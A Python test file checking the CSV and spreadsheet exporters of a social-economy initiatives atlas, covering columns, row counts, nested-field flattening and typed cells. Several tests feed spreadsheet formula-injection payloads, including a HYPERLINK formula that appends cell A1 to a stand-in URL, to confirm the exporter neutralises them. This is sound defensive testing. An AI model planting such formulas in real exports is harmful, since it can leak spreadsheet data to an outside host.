"""CSV and spreadsheet exports, read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from sse_atlas.exports.csvfile import CsvExporter
from sse_atlas.exports.table import ENTITIES, Cell, UnknownEntityError, columns, flatten, neutralise
from sse_atlas.exports.xlsx import XlsxExporter
from sse_atlas.model import Catalogue, Dataset, Initiative

from .helpers import padded_rows, render

LOCATED = {
    "id": "gsef2018-fr/2.3.2",
    "session": "2",
    "city": "Montréal",
    "region": "",
    "latitude": "45.50884",
    "longitude": "-73.58781",
    "presenters": "Jacques Charest (Directeur Général)",
    "urls": "http://fiducieduchantier.qc.ca/",
    "themes": "",
    "source_document": "gsef2018-fr.txt",
    "source_line_start": "267",
    "source_line_end": "273",
    "source_page_start": "",
}


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_initiatives_read_back_one_row_per_initiative(small_dataset: Dataset) -> None:
    text = render(CsvExporter(), small_dataset)
    rows = _read(text)
    assert text.splitlines()[0].split(",") == columns("initiatives")
    assert [row["id"] for row in rows] == [
        "gsef2018-fr/2.1.1",
        "gsef2018-fr/2.3.1",
        "gsef2018-fr/2.3.2",
        "gsef2018-fr/2.3.3",
        "gsef2018-fr/2.3.4",
    ]
    assert {key: rows[2][key] for key in LOCATED} == LOCATED


def test_csv_workshops_show_the_panel_as_names_and_roles(small_dataset: Dataset) -> None:
    rows = _read(render(CsvExporter("workshops"), small_dataset))
    panel = {key: rows[2][key] for key in ("code", "kind", "moderator", "panel", "initiatives")}
    assert panel == {
        "code": "2.4",
        "kind": "coordinated",
        "moderator": "Antonella Noya",
        "panel": "Ellen Oetelmans (Directrice des programmes à Amsterdam Impact); "
        "Pascal Isoard Thomas (Conseiller technique du président, aux Affaires Sociales, "
        "à la Santé et à l'Innovation Sociale dans la Zone Métropolitaine de Lyon); "
        "Lance McNeill (Directeur des programmes orientés aux petites entreprises dans la ville "
        "d'Austin-Texas); Risto Raivio (Expert Senior à la Direction Générale à l'Emploi, aux "
        "Affaires Sociales et à l'Inclusion de la Commission Européenne)",
        "initiatives": "",
    }


@pytest.mark.parametrize("entity", ENTITIES)
def test_csv_has_a_header_and_a_row_per_record(entity: str, full_dataset: Dataset) -> None:
    rows = list(csv.reader(io.StringIO(render(CsvExporter(entity), full_dataset), newline="")))
    counts = {
        "initiatives": 102,
        "workshops": 42,
        "organisations": len(full_dataset.organisations),
        "people": len(full_dataset.people),
    }
    assert (rows[0], len(rows) - 1) == (columns(entity), counts[entity])


def test_csv_unknown_entity_is_refused() -> None:
    with pytest.raises(UnknownEntityError) as caught:
        CsvExporter("places")
    assert str(caught.value) == (
        "unknown entity 'places'; choose one of: initiatives, workshops, organisations, people"
    )


def test_csv_docstring_names_every_column() -> None:
    text = " ".join((CsvExporter.__doc__ or "").split())
    documented = {
        entity: names.split(", ") for entity, names in re.findall(r"- (\w+): ``([^`]+)``", text)
    }
    assert documented == {entity: columns(entity) for entity in ENTITIES}


def test_flatten_joins_lists_and_names_nested_keys() -> None:
    value = {
        "source": {"document": "a.txt", "line_start": 3},
        "presenters": [{"name": "Ana", "role": "Présidente"}, {"name": "Bo", "role": None}],
        "urls": [
            {"as_written": "<x.org>", "url": "https://x.org/"},
            {"as_written": "y", "url": None},
        ],
        "sdgs": [1, 8],
        "labels": [{"scheme": "themes", "code": "T3", "label": "Finances", "evidence": "fonds"}],
        "flags": [],
        "moderator": {"name": "Cy", "role": "Modératrice"},
    }
    assert flatten(value) == {
        "source_document": "a.txt",
        "source_line_start": 3,
        "presenters": "Ana (Présidente); Bo",
        "urls": "https://x.org/; y",
        "sdgs": "1; 8",
        "labels": "themes:T3",
        "flags": None,
        "moderator": "Cy (Modératrice)",
    }


def _workbook_rows(data: bytes) -> dict[str, list[list[Any]]]:
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    sheets = {
        sheet.title: padded_rows(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets
    }
    workbook.close()
    return sheets


def test_xlsx_has_a_sheet_per_entity_with_typed_cells(small_dataset: Dataset) -> None:
    target = io.BytesIO()
    XlsxExporter().write(target, small_dataset)
    sheets = _workbook_rows(target.getvalue())
    names = columns("initiatives")
    located = dict(zip(names, sheets["initiatives"][3], strict=True))
    assert list(sheets) == list(ENTITIES)
    assert [sheets[entity][0] for entity in ENTITIES] == [columns(e) for e in ENTITIES]
    assert [len(sheets[entity]) - 1 for entity in ENTITIES] == [5, 3, 6, 10]
    assert {key: located[key] for key in ("id", "session", "latitude", "region")} == {
        "id": "gsef2018-fr/2.3.2",
        "session": 2,
        "latitude": 45.50884,
        "region": None,
    }


def test_xlsx_keeps_formula_like_text_as_text() -> None:
    title = '=HYPERLINK("http://example.org")\x07'
    dataset = Dataset([Catalogue(id="c", initiatives=[Initiative("1.1.1", title, "c")])])
    target = io.BytesIO()
    XlsxExporter().write(target, dataset)
    cell = load_workbook(io.BytesIO(target.getvalue()))["initiatives"]["G2"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://example.org")', "s")


def test_xlsx_writes_through_a_text_stream(small_dataset: Dataset, tmp_path: Path) -> None:
    path = tmp_path / "atlas.xlsx"
    with path.open("w", encoding="utf-8") as stream:
        XlsxExporter().write(stream, small_dataset)
    assert list(_workbook_rows(path.read_bytes())) == list(ENTITIES)


def test_xlsx_refuses_a_text_stream_without_bytes_beneath(small_dataset: Dataset) -> None:
    with pytest.raises(TypeError) as caught:
        XlsxExporter().write(io.StringIO(), small_dataset)
    assert (
        str(caught.value) == "a spreadsheet is binary: give a binary stream, or a file's text one"
    )


FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'


def test_table_neutralise_formula_starts() -> None:
    cells: list[Cell] = [FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", -7.5, 3]
    assert [neutralise(cell) for cell in cells] == [
        f"'{FORMULA}",
        "'+1",
        "'-x",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "a=b",
        -7.5,
        3,
    ]


def _formula_dataset() -> Dataset:
    initiative = Initiative(code="1.1.1", title=FORMULA, catalogue="c", organisation="@org")
    return Dataset([Catalogue(id="c", initiatives=[initiative])])


def test_csv_formula_cells_neutralised() -> None:
    row = _read(render(CsvExporter(), _formula_dataset()))[0]
    assert (row["title"], row["organisation"]) == (f"'{FORMULA}", "'@org")


def test_csv_raw_keeps_cells_as_stored() -> None:
    row = _read(render(CsvExporter(raw=True), _formula_dataset()))[0]
    assert (row["title"], row["organisation"]) == (FORMULA, "@org")
